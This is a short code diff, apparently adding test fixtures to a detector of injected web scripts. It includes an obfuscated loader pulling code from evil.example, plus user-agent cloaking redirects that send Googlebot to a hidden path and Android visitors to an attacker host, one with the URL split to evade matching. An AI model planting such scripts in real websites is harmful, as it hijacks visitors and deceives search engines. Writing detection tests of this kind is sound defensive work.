@@ -41,6 +41,14 @@ INJECTED = {
         "",
         "<script>var _0x4be2=['a','b'];(function(a){})(_0x4be2)</script><script src='//evil.example/a.js'></script>",
     ),
+    "robots led within the site": (
+        "",
+        "<script>if(/Googlebot/.test(navigator.userAgent)){location.href='/wp-content/x/'}</script>",
+    ),
+    "a stranger in pieces": (
+        "",
+        "<script>if(/Android/.test(navigator.userAgent)){location.href='/'+'/evil.example/'}</script>",
+    ),
     "telephones led to a stranger": (
         "",
         "<script>if(/Android/.test(navigator.userAgent)){window.location.href='//evil.example/m/'}</script>",
